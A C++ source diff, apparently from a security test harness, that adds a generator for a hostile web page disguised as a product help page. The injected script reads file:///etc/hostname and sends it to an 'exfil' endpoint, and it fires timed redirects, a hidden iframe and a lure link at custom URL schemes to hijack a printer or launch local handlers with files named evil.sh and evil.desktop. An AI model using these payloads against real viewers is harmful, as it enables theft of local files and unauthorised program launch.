@@ -113,16 +113,55 @@ std::string BuildUpdateFeed(std::string_view pubDate, std::string_view siteUrl) 
            "</rss>\n";
 }
 
-std::string BuildWebPage(std::string_view name, bool marker) {
+std::string BuildAttacks(std::string_view siteUrl) {
+    const std::string site(siteUrl);
+    // Each attempt a moment after the one before, so that a cancelled one leaves the next
+    // its chance.
+    return "<meta http-equiv=\"refresh\" content=\"1; url=sp:" +
+           std::string(kHostileHijackPrinter) +
+           "\">\n"
+           "<base href=\"file:///etc/\">\n"
+           "<script>\n"
+           "var site = '" +
+           site +
+           "';\n"
+           "var attempts = [\n"
+           "  function () { location.href = 'sp:" +
+           std::string(kHostileHijackPrinter) +
+           "'; },\n"
+           "  function () { fetch('file:///etc/hostname').then(function (r) { return r.text(); })"
+           ".then(function (t) { location.href = site + 'exfil?d=' + encodeURIComponent(t); })"
+           ".catch(function () { location.href = site + 'exfil?d=unread'; }); },\n"
+           "  function () { new Image().src = site + 'exfil?d=image'; },\n"
+           "  function () { location.href = 'file:///etc/hostname#pdfs'; },\n"
+           "  function () { location.href = 'file:///etc/hostname?htmldocs'; },\n"
+           "  function () { location.href = 'doc:&FileName=evil.desktop'; },\n"
+           "  function () { location.href = 'video:&FileName=evil.sh'; },\n"
+           "  function () { location.href = 'util-rs:'; },\n"
+           "  function () { location.href = 'ps:'; },\n"
+           "  function () { window.open('sp:" +
+           std::string(kHostileHijackPrinter) +
+           "'); },\n"
+           "  function () { document.getElementById('lure').click(); },\n"
+           "];\n"
+           "attempts.forEach(function (attempt, i) { setTimeout(attempt, 100 * i); });\n"
+           "</script>\n";
+}
+
+std::string BuildWebPage(std::string_view name, bool marker, std::string_view hostileSite) {
     // Looks like the content's own pages (its style sheet and tabs), as the maker's refreshed
     // pages do.
     const std::string title = EscapeMarkup(name);
+    const bool hostile = !hostileSite.empty();
     std::string page = marker ? "<!-- toolbox -->\n" : "";
     page += "<!DOCTYPE html>\n<html lang=\"en\">\n<head><meta charset=\"utf-8\">"
             "<title>" +
-            title +
-            "</title><link rel=\"stylesheet\" href=\"kaldo.css\"></head>\n"
-            "<body class=\"pane-body\">\n"
+            title + "</title><link rel=\"stylesheet\" href=\"kaldo.css\">\n" +
+            (hostile ? BuildAttacks(hostileSite) : std::string()) + "</head>\n" +
+            (hostile ? "<body class=\"pane-body\" onload=\"location.href='util-rs:'\">\n"
+                       "<iframe src=\"util-rs:\" hidden></iframe>"
+                       "<a id=\"lure\" href=\"javascript:location.href='ps:'\"></a>\n"
+                     : "<body class=\"pane-body\">\n") +
             "<nav class=\"tabs\"><a href=\"tab#1\" class=\"active\">Home</a>"
             "<a href=\"tab#2\">Guides and videos</a><a href=\"tab#3\">Troubleshooting</a>"
             "<a href=\"tab#4\">Index</a><a href=\"tab#5\">Search and support</a></nav>\n"
